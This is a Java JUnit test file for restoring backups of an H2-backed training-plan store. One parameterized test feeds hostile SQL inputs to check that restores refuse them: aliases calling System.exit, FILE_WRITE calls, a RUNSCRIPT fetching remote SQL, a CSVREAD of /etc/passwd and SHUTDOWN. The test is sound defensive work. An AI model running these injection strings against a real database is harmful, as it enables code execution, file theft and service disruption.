package upswing.store;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import upswing.training.Plan;
import upswing.workspace.PlanStore;

class RestoringTest {

  private static final Clock CLOCK = Folders.clock(Folders.TODAY);

  @TempDir private Path temp;
  private DataFolder folder;
  private DataFolder other;

  @BeforeEach
  void name() {
    folder = new DataFolder(temp.resolve("upswing"));
    other = new DataFolder(temp.resolve("other laptop"));
  }

  @Test
  void aBackupRestoredElsewhereIsTheSamePlanHistoryAndFiles() throws IOException {
    byte[] run = "a run".repeat(5_000).getBytes(StandardCharsets.UTF_8);
    String sha = Migration.sha256(run);
    Plan plan = Folders.filled(folder, 7);
    Path file = temp.resolve("my backup.zip");
    PlanStore.Saved saved;
    try (H2PlanStore store = Folders.opened(folder).store()) {
      store.keepOriginal(sha, "run.fit", run);
      store.remember("view", "week");
      store.backUpTo(file);
      saved = store.load();
    }

    assertEquals(new Restoring.Restored(Optional.empty()), Restoring.from(file, other, CLOCK));

    try (H2PlanStore store = Folders.opened(other).store()) {
      assertEquals(plan, saved.plan());
      assertEquals(saved, store.load());
      assertEquals(plan, store.change(1).applyTo(Plan.EMPTY));
      assertEquals(Optional.of("week"), store.remembered("view"));
      assertArrayEquals(run, store.original(sha).orElseThrow());
    }
  }

  @Test
  void theDatabaseThatStoodThereIsKeptAside() throws IOException {
    Path backup = temp.resolve("backup.zip");
    Plan old = Folders.filled(folder, 8);
    Plan wanted = Folders.filled(other, 9);
    try (H2PlanStore store = Folders.opened(other).store()) {
      store.backUpTo(backup);
    }
    byte[] before = Files.readAllBytes(folder.database());

    var first = assertInstanceOf(Restoring.Restored.class, Restoring.from(backup, folder, CLOCK));
    var second = assertInstanceOf(Restoring.Restored.class, Restoring.from(backup, folder, CLOCK));

    assertEquals(wanted, Folders.planIn(folder));
    assertArrayEquals(before, Files.readAllBytes(first.aside().orElseThrow()));
    assertFalse(first.aside().equals(second.aside()));
    assertFalse(old.equals(wanted));
  }

  @Test
  void aDamagedDatabaseIsReplacedByTheDaysBackup() throws IOException {
    Plan plan = Folders.filled(folder, 10);
    Folders.opened(folder, Folders.TODAY.plusDays(1)).store().close();
    Files.writeString(folder.database(), "rubbish");
    var damaged = assertInstanceOf(Opening.Damaged.class, Opening.of(folder, CLOCK));

    assertInstanceOf(
        Restoring.Restored.class, Restoring.from(damaged.backups().getFirst(), folder, CLOCK));

    assertEquals(plan, Folders.planIn(folder));
  }

  @Test
  void aBackupShowsOneMomentWhateverIsChangedMeanwhile() throws IOException {
    Folders.filled(folder, 12);
    LocalDate tomorrow = Folders.TODAY.plusDays(1);
    List<Plan> moments = new ArrayList<>();
    var opened =
        assertInstanceOf(Opening.Opened.class, Opening.of(folder, Folders.clock(tomorrow)));
    try (H2PlanStore store = opened.store()) {
      moments.add(store.load().plan());
      for (int number = 2; number < 12; number++) {
        Folders.add(store, number);
        moments.add(store.load().plan());
      }
    }

    Restoring.from(new Backups(folder).all().getFirst(), other, CLOCK);

    assertTrue(moments.contains(Folders.planIn(other)));
  }

  @Test
  void anOpenFolderIsNotRestored() throws IOException {
    try (H2PlanStore store = Folders.opened(folder).store()) {
      Path backup = temp.resolve("backup.zip");
      store.backUpTo(backup);
      assertEquals(new Restoring.AlreadyOpen(folder), Restoring.from(backup, folder, CLOCK));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "hello",
        "CREATE ALIAS RUN FOR 'java.lang.System.exit';",
        "CREATE ALIAS RUN AS 'void run() {}';",
        "CREATE TABLE T(A INTEGER DEFAULT FILE_WRITE('x', 'written'));",
        "CALL FILE_WRITE('x', 'written');",
        "INSERT INTO \"PUBLIC\".\"HABIT\" VALUES ('a', FILE_WRITE('x', 'written'));",
        "INSERT INTO \"PUBLIC\".\"HABIT\" VALUES ('a', \"FILE_WRITE\"('x', 'written'));",
        "RUNSCRIPT FROM 'https://example.org/evil.sql';",
        "INSERT INTO \"PUBLIC\".\"HABIT\" SELECT * FROM CSVREAD('/etc/passwd');",
        "-- harmless\nSHUTDOWN;",
        "CREATE TABLE IF NOT EXISTS X(X X(X",
      })
  void aFileThatIsNoBackupChangesNothing(String sql) throws IOException {
    Plan plan = Folders.filled(folder, 11);
    byte[] before = Files.readAllBytes(folder.database());
    Path file = temp.resolve("evil.sql.gz");
    try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(file))) {
      out.write(sql.getBytes(StandardCharsets.UTF_8));
    }

    var refused = assertInstanceOf(Restoring.Refused.class, Restoring.from(file, folder, CLOCK));

    assertTrue(refused.reason().startsWith(file + " can't be restored: "), refused.reason());
    assertTrue(refused.reason().endsWith("."), refused.reason());
    assertArrayEquals(before, Files.readAllBytes(folder.database()));
    assertEquals(plan, Folders.planIn(folder));
  }

  @Test
  void anythingThatCannotBeReadIsSaidInASentence() throws IOException {
    Path words = Files.writeString(temp.resolve("words.sql.gz"), "not compressed");
    Path missing = temp.resolve("missing.zip");

    assertEquals(
        new Restoring.Refused(words, words + " can't be restored: Not in GZIP format."),
        Restoring.from(words, folder, CLOCK));
    assertEquals(
        new Restoring.Refused(missing, missing + " can't be restored: there is no such file."),
        Restoring.from(missing, folder, CLOCK));
    assertFalse(Files.exists(folder.database()));
  }
}
